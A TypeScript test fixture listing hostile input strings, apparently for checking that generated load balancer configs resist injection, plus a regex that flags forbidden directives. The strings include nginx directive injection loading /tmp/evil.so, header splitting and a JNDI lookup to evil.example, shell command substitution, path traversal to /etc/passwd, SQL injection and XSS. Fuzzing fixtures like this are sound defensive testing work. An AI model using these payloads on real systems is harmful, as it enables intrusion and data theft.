/** Texts that would end a token, a line, a block or a command somewhere, and inject something behind it. */
export const HOSTILE: readonly string[] = [
  'x;\nload_module /proc/self/fd/7;\n',
  'x"; }\n}\nssl_engine /tmp/evil.so;\nhttp { server {',
  'x\r\nHost: evil.example\r\n\r\n',
  'x\0y',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what others would expand.
  '${jndi:ldap://evil.example}',
  '$(touch /tmp/x)',
  '`id`',
  'x;set maxconn global 7',
  '{{ .Values }}',
  '../../etc/passwd',
  '\u202eevil',
  '\ud800',
  'a'.repeat(100_000),
  '(a+)+'.repeat(300),
  '__proto__',
  '%00%0a%0d',
  '<script>alert(1)</script>',
  "' or 1=1 --",
]

/** Parts of these texts that must never be in a load balancer, in any encoding. */
export const DIRECTIVES = /load_module|ssl_engine|[\0\r\n]|\\u0000|\\[rn]/
